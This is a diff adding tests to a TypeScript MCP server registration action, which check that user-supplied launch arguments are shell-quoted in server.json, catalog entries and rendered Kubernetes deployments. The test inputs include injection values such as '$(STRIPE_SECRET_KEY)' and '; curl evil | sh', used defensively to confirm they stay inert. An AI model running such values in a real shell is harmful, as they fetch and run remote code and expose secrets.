@@ -7,6 +7,13 @@ import {
   Finding,
 } from '@mcp-server-operator/plugin-mcp-security-common';
 import { parse } from 'yaml';
+import {
+  assessmentOf,
+  fromServerJson,
+  profileOf,
+} from '../__testUtils__/assessments';
+import { deploymentPlanOf } from '../deployment/plan';
+import { renderDeployment, validateRendering } from '../deployment/render';
 import { createRegisterServerAction } from './registerServer';
 
 function assessment(findings: Finding[] = []): Assessment {
@@ -287,5 +294,80 @@ describe('mcp-security:register-server', () => {
       /^The catalog would reject the entity: .*url/,
     );
     expect(workspace.content()).toEqual({});
+  });
+
+  describe('launch arguments', () => {
+    const hostileArgs = [
+      '--root',
+      '/srv/shared files',
+      "it's",
+      '$(STRIPE_SECRET_KEY)',
+      '; curl evil | sh',
+    ];
+
+    it('writes them into server.json in order, and quotes each in the launch command', async () => {
+      await run({
+        ...npmInput,
+        package: { ...npmInput.package, arguments: hostileArgs },
+      });
+      const serverJson = await readJson('server.json');
+      expect(serverJson.packages[0].packageArguments).toEqual(
+        hostileArgs.map(value => ({ type: 'positional', value })),
+      );
+      expect((await readYaml('catalog-info.yaml')).spec.remotes).toEqual([
+        {
+          type: 'stdio',
+          url: `npx -y @acme/orders-mcp@1.4.2 --root '/srv/shared files' 'it'\\''s' '$(STRIPE_SECRET_KEY)' '; curl evil | sh'`,
+        },
+      ]);
+    });
+
+    it('reach the rendered deployment, each one word, expanded by nothing', async () => {
+      await run({
+        ...npmInput,
+        package: { ...npmInput.package, arguments: hostileArgs },
+      });
+      const profile = profileOf({
+        name: 'io.github.acme/orders-mcp',
+        ...fromServerJson(await readJson('server.json')),
+      });
+      const plan = deploymentPlanOf(assessmentOf(profile, 'medium'));
+      const rendering = renderDeployment(plan, {
+        targets: ['dockerfile', 'compose', 'kubernetes'],
+        namespace: 'mcp',
+      });
+      validateRendering(rendering);
+      expect(plan.bridge!.stdioCommand).toBe(
+        `node /app/server --root '/srv/shared files' 'it'\\''s' '$(STRIPE_SECRET_KEY)' '; curl evil | sh'`,
+      );
+      const server = rendering.kubernetes.find(
+        o => o.kind === 'Deployment' && o.metadata.name === plan.name,
+      ) as any;
+      expect(server.spec.template.spec.containers[0].args[1]).toContain(
+        `'$$(STRIPE_SECRET_KEY)'`,
+      );
+    });
+
+    it('are left out of the launch command of a given server.json, which declares its own', async () => {
+      await run({
+        ...npmInput,
+        serverJson: {
+          name: 'io.github.acme/orders-mcp',
+          description: 'Orders',
+          version: '1.4.2',
+          packages: [
+            {
+              registryType: 'npm',
+              identifier: '@acme/orders-mcp',
+              version: '1.4.2',
+              transport: { type: 'stdio' },
+            },
+          ],
+        },
+      });
+      expect((await readYaml('catalog-info.yaml')).spec.remotes).toEqual([
+        { type: 'stdio', url: 'npx -y @acme/orders-mcp@1.4.2' },
+      ]);
+    });
   });
 });
